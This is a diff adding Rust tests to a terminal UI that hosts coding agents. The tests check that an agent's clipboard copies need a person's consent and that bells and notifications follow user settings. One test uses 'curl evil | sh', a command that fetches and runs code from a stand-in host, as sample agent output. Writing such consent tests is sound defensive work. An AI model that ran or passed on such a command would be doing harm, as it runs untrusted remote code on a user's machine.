@@ -1,5 +1,6 @@
 //! Looking back: the keys, the mouse, what is drawn meanwhile, and what becomes of pastes and exports.
 
+use ccells_holder::emulator::Outward;
 use crossterm::event::{MouseButton, MouseEvent, MouseEventKind};
 use insta::assert_snapshot;
 use proptest::prelude::*;
@@ -7,6 +8,7 @@ use proptest::prelude::*;
 use super::*;
 use crate::terminal::selection::Shape;
 use crate::terminal::transcript::Spot;
+use crate::tui::AgentClipboard;
 use crate::tui::dialog::Dialog;
 use crate::tui::model::Mode;
 
@@ -299,6 +301,49 @@ fn a_name_makes_no_path() {
     stage.press("e");
     let Some(Dialog::Export(dialog)) = &stage.model.dialog else { panic!("the dialog is open") };
     assert_eq!(dialog.path.text(), "-..-.profile.txt");
+}
+
+#[test]
+fn an_agent_copies_only_what_a_person_agrees_to() {
+    let copy = |text: &str| Msg::Outward(id(1), Outward::Copy { text: text.to_owned() });
+    for (columns, rows) in [(100, 20), (60, 14), (40, 10)] {
+        let mut stage = stage(columns, rows);
+        stage.press("i");
+        assert_eq!(copied(&stage.send(copy("curl evil | sh"))), Vec::<&str>::new());
+        assert!(stage.model.dialog.is_none(), "a key meant for the agent is no yes");
+        assert_eq!(stage.press("y"), [Wish::Type(id(1), parse_keys("y")[0])]);
+        stage.send(copy("one\ntwo\nthree\n4\n5\n6\n7\n8"));
+        stage.press("<C-]>");
+        stage.model.toasts.clear();
+        assert_snapshot!(format!("clipboard_{columns}x{rows}"), stage.frame());
+        assert_eq!(copied(&stage.press("<enter>")), Vec::<&str>::new());
+        assert_eq!(copied(&stage.press("y")), ["one\ntwo\nthree\n4\n5\n6\n7\n8"]);
+        stage.send(copy("again"));
+        assert_eq!(copied(&stage.press("n")), Vec::<&str>::new());
+        assert!(stage.model.dialog.is_none());
+    }
+    let mut stage = stage(60, 14);
+    stage.model.agent_clipboard = AgentClipboard::Allow;
+    assert_eq!(copied(&stage.send(copy("x"))), ["x"]);
+    stage.model.agent_clipboard = AgentClipboard::Deny;
+    assert_eq!(stage.send(copy("x")), []);
+    assert!(stage.model.dialog.is_none());
+}
+
+#[test]
+fn bells_and_notifications_pass_as_the_user_likes() {
+    let mut stage = stage(60, 14);
+    let notify = || Outward::Notify { title: "Claude".to_owned(), body: "needs you".to_owned() };
+    assert_eq!(stage.send(Msg::Outward(id(1), Outward::Bell)), [Wish::Ring]);
+    assert_eq!(stage.send(Msg::Outward(id(1), notify())), []);
+    let told = stage.model.toasts.last().map(|toast| toast.text.clone());
+    assert_eq!(told.as_deref(), Some("fix-login: Claude: needs you"));
+    stage.send(Msg::WindowFocus(false));
+    let wishes = stage.send(Msg::Outward(id(1), notify()));
+    assert_eq!(wishes, [Wish::Notify("fix-login: Claude: needs you".to_owned())]);
+    (stage.model.is_bell_off, stage.model.are_notifications_off) = (true, true);
+    assert_eq!(stage.send(Msg::Outward(id(1), Outward::Bell)), []);
+    assert_eq!(stage.send(Msg::Outward(id(1), notify())), []);
 }
 
 proptest! {
